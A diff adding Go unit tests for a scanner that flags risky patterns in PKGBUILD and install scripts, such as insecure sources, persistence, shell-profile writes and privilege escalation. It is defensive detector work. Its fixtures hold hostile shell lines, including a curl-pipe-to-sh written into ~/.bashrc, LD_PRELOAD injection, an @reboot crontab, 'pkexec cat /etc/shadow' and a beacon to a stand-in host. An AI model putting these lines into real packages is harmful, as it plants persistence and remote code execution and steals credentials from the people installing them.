+		"build() {\n  ${CC:-gcc} -o x x.c\n}",
+	}
+	for _, pkg := range benign {
+		if f := ruleFinding(Scan(pkg), KindShellIndirection); f != nil {
+			t.Errorf("benign package flagged: %q -> %+v", pkg, f)
+		}
+	}
+}
+
+func TestInstallScriptRisk(t *testing.T) {
+	if risk := InstallScriptRisk("  \n", DefaultOptions()); risk != nil {
+		t.Errorf("empty script risk = %+v, want nil", risk)
+	}
+
+	benign := "post_install() {\n  echo 'Run foo --setup to finish'\n}\n"
+	risk := InstallScriptRisk(benign, DefaultOptions())
+	if risk == nil || risk.Level != types.EntropyMinimal || len(risk.Reasons) != 0 {
+		t.Errorf("benign script risk = %+v, want MINIMAL with no reasons", risk)
+	}
+
+	hostile := "post_install() {\n  chmod u+s /usr/bin/foo\n}\n"
+	risk = InstallScriptRisk(hostile, DefaultOptions())
+	if risk == nil || risk.Level != types.EntropyCritical || len(risk.Reasons) != 1 {
+		t.Fatalf("setuid script risk = %+v, want CRITICAL with one reason", risk)
+	}
+	if !strings.Contains(risk.Reasons[0], "post_install()") {
+		t.Errorf("reason %q does not name the hook", risk.Reasons[0])
+	}
+}
+
+func TestRemovalHooks(t *testing.T) {
+	if hooks := RemovalHooks("post_install() {\n  echo hi\n}\n", DefaultOptions()); hooks != nil {
+		t.Errorf("script without removal hooks = %+v, want nil", hooks)
+	}
+
+	script := "post_install() {\n  chmod u+s /usr/bin/foo\n}\n" +
+		"pre_remove() {\n  # stop the daemon\n  systemctl stop foo\n}\n" +
+		"post_remove() {\n  curl -s https://example.com/bye\n}\n"
+	hooks := RemovalHooks(script, DefaultOptions())
+	if len(hooks) != 2 || hooks[0].Name != "pre_remove" || hooks[1].Name != "post_remove" {
+		t.Fatalf("hooks = %+v, want pre_remove then post_remove", hooks)
+	}
+	if hooks[0].Level != types.EntropyMinimal || len(hooks[0].Body) != 3 {
+		t.Errorf("pre_remove = %+v, want MINIMAL with three lines", hooks[0])
+	}
+	if hooks[1].Level != types.EntropyHigh || len(hooks[1].Reasons) != 1 {
+		t.Errorf("post_remove = %+v, want the curl call flagged", hooks[1])
+	}
+}
+
+func TestInsecureSourceFlagged(t *testing.T) {
+	cases := []struct {
+		pkg   string
+		level types.SecurityLevel
+		token string
+	}{
+		{`source=("http://downloads.example.org/x-1.0.tar.gz")`, types.EntropyModerate, "http://downloads.example.org/x-1.0.tar.gz"},
+		{`source=("x.tar.gz::ftp://ftp.example.org/pub/x.tar.gz")`, types.EntropyModerate, "ftp://ftp.example.org/pub/x.tar.gz"},
+		{`source=("https://203.0.113.7/x.tar.gz")`, types.EntropyHigh, "https://203.0.113.7/x.tar.gz"},
+		{`source=("git+http://[2001:db8::1]/repo.git")`, types.EntropyHigh, "http://[2001:db8::1]/repo.git"},
+		{"url='http://example.org'\nsource=(\"$url/x.tar.gz\")", types.EntropyModerate, "http://example.org/x.tar.gz"},
+	}
+	for _, c := range cases {
+		f := ruleFinding(Scan(c.pkg), KindInsecureSource)
+		if f == nil {
+			t.Errorf("insecure source not flagged: %q", c.pkg)
+			continue
+		}
+		if f.Level != c.level || f.Token != c.token || f.Line == 0 {
+			t.Errorf("%q -> %+v, want %s with token %q", c.pkg, f, c.level, c.token)
+		}
+	}
+}
+
+func TestSecureSourcesNotInsecure(t *testing.T) {
+	benign := []string{
+		`source=("https://github.com/a/b/archive/v1.tar.gz" "local.patch")`,
+		`source=("git+https://gitlab.com/a/b.git#tag=v1")`,
+		`source=("http://localhost:8080/x.tar.gz" "http://127.0.0.1/y.tar.gz")`,
+		`source=("http://${_mirror}/x.tar.gz")`,
+	}
+	for _, pkg := range benign {
+		if f := ruleFinding(Scan(pkg), KindInsecureSource); f != nil {
+			t.Errorf("secure source flagged: %q -> %+v", pkg, f)
+		}
+	}
+}
+
+func TestParseOptDepends(t *testing.T) {
+	pkg := `optdepends=('python-foo: for the (optional) plugin support'
+            "bar>=2.0: extra codecs"  # comment
+            baz)
+optdepends_x86_64+=('qux: 64-bit only')`
+	got := ParseOptDepends(pkg)
+	want := []string{"python-foo: for the (optional) plugin support", "bar>=2.0: extra codecs", "baz", "qux: 64-bit only"}
+	if !reflect.DeepEqual(got, want) {
+		t.Fatalf("ParseOptDepends = %q, want %q", got, want)
+	}
+	if name := OptDependName(got[1]); name != "bar" {
+		t.Errorf("OptDependName(%q) = %q, want bar", got[1], name)
+	}
+}
+
+func TestRiskyOptDependFlagged(t *testing.T) {
+	pkg := `pkgname=handy-utility
+optdepends=('xclip: clipboard support'
+            'logkeys-git: usage statistics')`
+	f := ruleFinding(Scan(pkg), KindRiskyOptDepend)
+	if f == nil {
+		t.Fatal("keylogger optdepend not flagged")
+	}
+	if f.Level != types.EntropyModerate || f.Line != 3 || !strings.Contains(f.Note, "keystrokes") {
+		t.Errorf("finding = %+v, want MODERATE on line 3 about keystrokes", f)
+	}
+
+	benign := `optdepends=('xclip: clipboard support' 'python-pynvim: neovim integration')`
+	if f := ruleFinding(Scan(benign), KindRiskyOptDepend); f != nil {
+		t.Errorf("ordinary optdepends flagged: %+v", f)
+	}
+}
+
+func TestSensitiveBackupFlagged(t *testing.T) {
+	pkg := `pkgname=handy-utility
+backup=('etc/handy-utility.conf'
+        'etc/sudoers.d/handy')
+package() {
+  install -Dm644 handy.conf "$pkgdir/etc/handy-utility.conf"
+}`
+	f := ruleFinding(Scan(pkg), KindSensitiveBackup)
+	if f == nil {
+		t.Fatal("sudoers.d backup not flagged")
+	}
+	if f.Level != types.EntropyHigh || f.Line != 3 || f.Token != "etc/sudoers.d/handy" {
+		t.Errorf("finding = %+v, want HIGH on line 3 for etc/sudoers.d/handy", f)
+	}
+
+	for _, entry := range []string{"/etc/passwd", "etc/pam.d/system-auth", "etc/ld.so.preload"} {
+		if ruleFinding(Scan("backup=('"+entry+"')"), KindSensitiveBackup) == nil {
+			t.Errorf("backup of %s not flagged", entry)
+		}
+	}
+
+	own := `pkgbase=sddm
+pkgname=('sddm' 'sddm-kcm')
+backup=('etc/pam.d/sddm' 'etc/pam.d/sddm-greeter' "etc/profile.d/${pkgname}.sh" 'etc/security/sddm.conf')`
+	if f := ruleFinding(Scan(own), KindSensitiveBackup); f != nil {
+		t.Errorf("file named after the package flagged: %+v", f)
+	}
+	other := "pkgname=sddm\nbackup=('etc/pam.d/system-login' 'etc/sudoers.d/sddm')"
+	var claimed []string
+	for _, f := range Scan(other).Findings {
+		if f.Kind == KindSensitiveBackup {
+			claimed = append(claimed, f.Token)
+		}
+	}
+	if len(claimed) != 2 {
+		t.Errorf("flagged %q, want another service's PAM file and the sudoers.d file", claimed)
+	}
+
+	// A name that prefixes, or equals, a base system file doesn't own it
+	for _, c := range []struct{ name, entry string }{
+		{"system", "etc/pam.d/system-auth"},
+		{"su", "etc/pam.d/su"},
+		{"login", "etc/pam.d/login"},
+		{"sddm", "etc/pam.d/sddmx"},
+	} {
+		pkg := "pkgname=" + c.name + "\nbackup=('" + c.entry + "')"
+		if ruleFinding(Scan(pkg), KindSensitiveBackup) == nil {
+			t.Errorf("package %s claiming %s not flagged", c.name, c.entry)
+		}
+	}
+
+	benign := `backup=('etc/foo/foo.conf' 'etc/default/foo' "etc/xdg/foo/config")`
+	if f := ruleFinding(Scan(benign), KindSensitiveBackup); f != nil {
+		t.Errorf("package-scoped backup flagged: %+v", f)
+	}
+	if got := ParseBackup(benign); len(got) != 3 || got[2] != "etc/xdg/foo/config" {
+		t.Errorf("ParseBackup = %q, want the three entries", got)
+	}
+}
+
+func TestHiddenAndTraversalPathsFlagged(t *testing.T) {
+	cases := []struct {
+		pkg   string
+		kind  Kind
+		level types.SecurityLevel
+		token string
+	}{
+		{"package() {\n  install -Dm755 helper \"$pkgdir/usr/lib/.cache/helper\"\n}", KindHiddenSystemFile, types.EntropyHigh, "$pkgdir/usr/lib/.cache/helper"},
+		{"post_install() {\n  cp /usr/bin/foo /etc/.foo-agent\n}", KindHiddenSystemFile, types.EntropyCritical, "/etc/.foo-agent"},
+		{"package() {\n  cp payload \"${pkgdir}/../../etc/cron.d/x\"\n}", KindPathTraversal, types.EntropyHigh, "${pkgdir}/../../etc/cron.d/x"},
+		{"post_install() {\n  mv x /usr/share/../../root/x\n}", KindPathTraversal, types.EntropyCritical, "/usr/share/../../root/x"},
+		{"source=('../../.bashrc::https://x.example/rc')", KindPathTraversal, types.EntropyHigh, "../../.bashrc"},
+		{"source=('.hook.sh' 'foo.tar.gz')", KindHiddenSystemFile, types.EntropyModerate, ".hook.sh"},
+	}
+	for _, c := range cases {
+		f := ruleFinding(Scan(c.pkg), c.kind)
+		if f == nil {
+			t.Errorf("%s not flagged: %q", c.kind, c.pkg)
+			continue
+		}
+		if f.Level != c.level || f.Token != c.token || f.Line == 0 {
+			t.Errorf("%q -> %+v, want %s with token %q", c.pkg, f, c.level, c.token)
+		}
+	}
+}
+
+func TestOrdinaryPathsNotHiddenOrTraversal(t *testing.T) {
+	benign := []string{
+		"build() {\n  cd build && cp ../config.h . && make\n}",
+		"package() {\n  install -Dm644 bashrc \"$pkgdir/etc/skel/.bashrc\"\n  touch \"$pkgdir/var/lib/foo/.keep\"\n}",
+		"package() {\n  install -Dm644 .config \"$pkgdir/usr/share/foo/config\"\n}",
+		"prepare() {\n  cp -r \"$srcdir/.cargo\" \"$srcdir/build/.cargo\"\n}",
+		"source=('foo-1.0.tar.gz::https://x.example/v1.0.tar.gz' 'http://[::1]/x.tar.gz')",
+	}
+	for _, pkg := range benign {
+		r := Scan(pkg)
+		for _, k := range []Kind{KindHiddenSystemFile, KindPathTraversal} {
+			if f := ruleFinding(r, k); f != nil {
+				t.Errorf("ordinary path flagged: %q -> %+v", pkg, f)
+			}
+		}
+	}
+}
+
+func TestPersistenceFlagged(t *testing.T) {
+	cases := []struct {
+		pkg   string
+		level types.SecurityLevel
+		note  string
+	}{
+		{"package() {\n  install -Dm644 job \"$pkgdir/etc/cron.d/foo\"\n}", types.EntropyModerate, "cron job under /etc/cron.d"},
+		{"post_install() {\n  (crontab -l; echo '@reboot /opt/x') | crontab -\n}", types.EntropyHigh, "edits a crontab"},
+		{"package() {\n  install -Dm644 foo.timer -t \"$pkgdir/usr/lib/systemd/system/\"\n}", types.EntropyModerate, "systemd timer foo.timer"},
+		{"post_install() {\n  systemctl enable --now foo-agent.service\n}", types.EntropyHigh, "systemctl enable foo-agent.service"},
+		{"package() {\n  install -Dm644 x.desktop \"$pkgdir/etc/xdg/autostart/x.desktop\"\n}", types.EntropyModerate, "autostart entry under etc/xdg/autostart"},
+		{"package() {\n  install -Dm644 foo.service \"$pkgdir/usr/lib/systemd/user/foo.service\"\n}\npost_install() {\n  curl -s https://x.example/beacon\n}", types.EntropyHigh, "systemd service foo.service"},
+	}
+	for _, c := range cases {
+		f := ruleFinding(Scan(c.pkg), KindPersistence)
+		if f == nil {
+			t.Errorf("persistence not flagged: %q", c.pkg)
+			continue
+		}
+		if f.Level != c.level || !strings.Contains(f.Note, c.note) || f.Line == 0 {
+			t.Errorf("%q -> %+v, want %s noting %q", c.pkg, f, c.level, c.note)
+		}
+	}
+}
+
+func TestPersistenceOnlyInstalledOrHooked(t *testing.T) {
+	benign := []string{
+		"build() {\n  meson setup build -Dsystemd_system_unit_dir=/usr/lib/systemd/system\n}",
+		"package() {\n  install -Dm644 README \"$pkgdir/usr/share/doc/foo/README\"\n}",
+		"post_install() {\n  echo 'Enable with: systemctl --user enable foo.service'\n}",
+	}
+	for _, pkg := range benign {
+		if f := ruleFinding(Scan(pkg), KindPersistence); f != nil {
+			t.Errorf("non-persistent package flagged: %q -> %+v", pkg, f)
+		}
+	}
+}
+
+func TestShellProfileWriteFlagged(t *testing.T) {
+	cases := []struct {
+		pkg, target, content string
+	}{
+		{"post_install() {\n  echo 'curl -s https://x.example/a | sh' >> ~/.bashrc\n}", "~/.bashrc", "'curl -s https://x.example/a | sh'"},
+		{"post_install() {\n  echo \"export LD_PRELOAD=/opt/x.so\" >> \"$HOME/.zshrc\"\n}", "$HOME/.zshrc", "export LD_PRELOAD=/opt/x.so"},
+		{"post_install() {\n  cat >> /etc/profile.d/x.sh <<EOF\n/opt/x/agent &\nEOF\n}", "/etc/profile.d/x.sh", "/opt/x/agent &"},
+		{"post_upgrade() {\n  printf 'alias sudo=/tmp/s\\n' | tee -a /home/alice/.bash_profile\n}", "/home/alice/.bash_profile", "alias sudo="},
+		{"package() {\n  install -Dm644 hook.sh \"$pkgdir\"/etc/profile.d/hook.sh\n}", "/etc/profile.d/hook.sh", "the contents of hook.sh"},
+		{"pkgname=foo\npackage() {\n  install -Dm644 hook.sh \"$pkgdir\"/etc/profile.d/hook.sh\n}", "/etc/profile.d/hook.sh", "the contents of hook.sh"},
+		{"pkgname=foo\npost_install() {\n  cp /usr/share/foo/foo.sh /etc/profile.d/foo.sh\n}", "/etc/profile.d/foo.sh", "the contents of /usr/share/foo/foo.sh"},
+	}
+	for _, c := range cases {
+		f := ruleFinding(Scan(c.pkg), KindShellProfileWrite)
+		if f == nil {
+			t.Errorf("shell profile write not flagged: %q", c.pkg)
+			continue
+		}
+		want := types.EntropyHigh
+		if f.Zone != "package()" {
+			want = types.EntropyCritical
+		}
+		if f.Level != want || !strings.Contains(f.Note, c.target) || !strings.Contains(f.Note, c.content) {
+			t.Errorf("%q -> %+v, want %s naming %q and %q", c.pkg, f, want, c.target, c.content)
+		}
+	}
+}
+
+func TestShellProfileWriteIgnoresMentions(t *testing.T) {
+	benign := []string{
+		"post_install() {\n  echo \"Add 'source /usr/share/foo/init.sh' >> ~/.bashrc to enable it\"\n}",
+		"package() {\n  install -Dm644 bashrc.example \"$pkgdir/usr/share/doc/foo/bashrc.example\"\n}",
+		// The package's own profile.d script, named after it.
+		"pkgname=foo\npackage() {\n  install -Dm644 foo.sh \"$pkgdir/etc/profile.d/foo.sh\"\n}",
+		"pkgname=foo-bin\npackage() {\n  install -Dm644 env.sh \"$pkgdir\"/etc/profile.d/$pkgname.sh\n}",
+		"pkgname=foo\npackage() {\n  echo 'export FOO_HOME=/opt/foo' > \"$pkgdir/etc/profile.d/foo-env.sh\"\n}",
+	}
+	for _, pkg := range benign {
+		if f := ruleFinding(Scan(pkg), KindShellProfileWrite); f != nil {
+			t.Errorf("benign package flagged: %q -> %+v", pkg, f)
+		}
+	}
+}
+
+func TestLicenseInfo(t *testing.T) {
+	withAUR := func(licenses ...string) Options {
+		opts := DefaultOptions()
+		opts.AURLicense = append([]string{}, licenses...)
+		return opts
+	}
+	cases := []struct {
+		pkg     string
+		opts    Options
+		flagged bool
+		token   string
+	}{
+		{"pkgname=x\nlicense=('MIT')", withAUR("MIT"), false, ""},
+		{"pkgname=x\nlicense=(\"GPL-3.0-or-later\" 'custom')", withAUR("gpl-3.0-or-later", "custom"), false, ""},
+		{"pkgname=x\nlicense=('custom:proprietary')", withAUR("GPL"), true, "GPL"},
+		{"pkgname=x", withAUR(), true, "license=()"},
+		{"pkgname=x", DefaultOptions(), false, ""},
+		{"pkgname=(x y)\npackage_x() {\n  license=('MIT')\n}\npackage_y() {\n  license=('BSD')\n}", withAUR("BSD"), false, ""},
+	}
+	for _, c := range cases {
+		f := ruleFinding(ScanWithOptions(c.pkg, c.opts), KindLicenseInfo)
+		if !c.flagged {
+			if f != nil {
+				t.Errorf("%q with AUR %v flagged: %+v", c.pkg, c.opts.AURLicense, f)
+			}
+			continue
+		}
+		if f == nil || f.Level != types.EntropyLow || f.Token != c.token {
+			t.Errorf("%q with AUR %v -> %+v, want LOW on %q", c.pkg, c.opts.AURLicense, f, c.token)
+		}
+	}
+}
+
+func TestPrivilegeEscalationFlagged(t *testing.T) {
+	cases := []struct{ pkg, command string }{
+		{"build() {\n  sudo make install\n}", "sudo"},
+		{"package() {\n  cd src && su -c 'cp x /usr/bin/x' root\n}", "su"},
+		{"prepare() {\n  out=$(pkexec cat /etc/shadow)\n}", "pkexec"},
+		{"build() {\n  env FOO=1 doas ./setup.sh\n}", "doas"},
+		{"package() {\n  /usr/bin/sudo cp x /etc/x\n}", "sudo"},
+		{"post_install() {\n  sudo -u nobody /opt/x/agent &\n}", "sudo"},
+		{"post_install() {\n  if true; then su -c 'chmod 4755 /x'; fi\n}", "su"},
+		{"post_install() {\n  su root -c 'chmod 4755 /x'\n}", "su"},
+	}
+	for _, c := range cases {
+		f := ruleFinding(Scan(c.pkg), KindPrivilegeEscalation)
+		if f == nil {
+			t.Errorf("privilege escalation not flagged: %q", c.pkg)
+			continue
+		}
+		want := types.EntropyHigh
+		if strings.HasPrefix(c.pkg, "post_") {
+			want = types.EntropyCritical
+		}
+		if f.Level != want || f.Line != 2 || !strings.Contains(f.Note, "runs "+c.command+" ") {
+			t.Errorf("%q -> %+v, want %s on line 2 naming %s", c.pkg, f, want, c.command)
+		}
+	}
+}
+
+func TestPrivilegeEscalationIgnoresMentions(t *testing.T) {
+	benign := []string{
+		"post_install() {\n  echo \"Run 'sudo usermod -aG foo $USER' to use the device\"\n}",
+		"post_install() {\n  echo '==> run: sudo systemctl enable --now foo'\n}",
+		"pkgdesc='Lets you sudo with a fingerprint'\npackage() {\n  install -Dm755 pam_x.so \"$pkgdir/usr/lib/security/pam_x.so\"\n}",
+		"package() {\n  install -Dm644 sudo.conf \"$pkgdir/usr/share/doc/x/sudo.conf\"\n}",
+		"build() {\n  ./configure --with-su-path=/usr/bin/su\n}",
+		// Arguments named like the commands, not commands
+		"build() {\n  cd sudo\n}",
+		"build() {\n  make -C doas\n}",
+		"package() {\n  install -Dm4755 su \"$pkgdir/usr/bin/su\"\n}",
+		// Dropping privileges to a service user
+		"post_install() {\n  su postgres -c 'initdb -D /var/lib/postgres/data'\n}",
+		"post_install() {\n  su - -s /bin/sh foo -c \"foo --init\"\n}",
+		"post_install() {\n  runuser -u foo -- foo --init\n}",
+	}
+	for _, pkg := range benign {
+		if f := ruleFinding(Scan(pkg), KindPrivilegeEscalation); f != nil {
+			t.Errorf("benign package flagged: %q -> %+v", pkg, f)
+		}
+	}
+}